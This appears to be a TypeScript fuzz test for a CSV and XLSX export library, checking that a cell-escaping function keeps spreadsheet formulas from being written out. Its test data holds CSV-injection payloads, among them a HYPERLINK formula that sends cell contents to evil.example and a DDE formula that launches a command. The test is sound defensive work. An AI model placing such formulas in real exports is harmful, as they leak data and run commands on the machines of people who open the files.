import { parse } from 'csv-parse/sync';
import { expect } from 'chai';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { PassThrough } from 'node:stream';
import { safeCell, writeCsv, writeXlsx, type ExportRow } from '../../src/index';

/** Fixed seed: a failure prints it with the shrunk counterexample, and reruns reproduce it. */
const fuzz = { seed: 20261128, numRuns: 200 };

/** The first characters a spreadsheet runs as a formula (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** Cells as imported names, e-mails and organisation names can hold them. */
const hostileCell = fc.oneof(
  fc.constantFrom(
    '=HYPERLINK("http://evil.example?"&A1,"klicka")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '=1\n=2',
    '"=1"',
    ';=1',
    ',=1',
    'Berg, Anna; "Bo"',
    '<script>alert(1)</script>',
  ),
  fc.string({ maxLength: 30 }),
  fc.string({ maxLength: 10 }).map((text) => `${'=+-@\t\r'[text.length % 6]}${text}`),
);
const row = fc.array(
  fc.oneof(hostileCell, fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constant(null)),
  {
    minLength: 1,
    maxLength: 6,
  },
);

function collect(out: PassThrough): Promise<Buffer> {
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  return new Promise((resolve) => out.on('end', () => resolve(Buffer.concat(chunks))));
}

describe('export writers under fuzzing', () => {
  it('safeCell never returns text that starts like a formula, and changes only what it must', () => {
    fc.assert(
      fc.property(hostileCell, (text) => {
        const safe = safeCell(text);
        expect(FORMULA_START.test(safe), JSON.stringify(safe)).to.equal(false);
        expect(safe === text || safe === `'${text}`).to.equal(true);
      }),
      fuzz,
    );
  });

  it('writes CSV that reads back cell for cell as safeCell of the input, with no cell starting like a formula', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(row, { minLength: 1, maxLength: 8 }),
        fc.constantFrom(',' as const, ';' as const),
        async (rows, delimiter) => {
          const width = Math.max(...rows.map((r) => r.length));
          const padded: ExportRow[] = rows.map((r) => [...r, ...Array<null>(width - r.length).fill(null)]);
          const header = Array.from({ length: width }, (_, i) => `=kolumn ${i}`);
          const out = new PassThrough();
          const bytes = collect(out);
          await writeCsv(header, padded, out, { delimiter });
          const records: string[][] = parse((await bytes).toString('utf8'), { bom: true, delimiter });
          expect(records).to.have.length(padded.length + 1);
          expect(records[0]).to.deep.equal(header.map(safeCell));
          padded.forEach((cells, index) => expect(records[index + 1]).to.deep.equal(cells.map(safeCell)));
          // A negative number is data; only cells written from text must not start like a formula.
          padded.forEach((cells, index) =>
            cells.forEach((input, column) => {
              const cell = records[index + 1]![column]!;
              if (typeof input === 'string') expect(FORMULA_START.test(cell), cell).to.equal(false);
            }),
          );
        },
      ),
      fuzz,
    );
  });

  it('writes XLSX whose text cells never start like a formula and hold no formula', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 5 }), async (rows) => {
        const out = new PassThrough();
        const bytes = collect(out);
        await writeXlsx('Deltagare', ['Namn'], rows, out);
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load((await bytes) as unknown as ArrayBuffer);
        workbook.getWorksheet('Deltagare')!.eachRow((sheetRow) => {
          sheetRow.eachCell((cell) => {
            expect(cell.type).to.not.equal(ExcelJS.ValueType.Formula);
            if (typeof cell.value === 'string') expect(FORMULA_START.test(cell.value)).to.equal(false);
          });
        });
      }),
      { ...fuzz, numRuns: 60 },
    );
  });
});
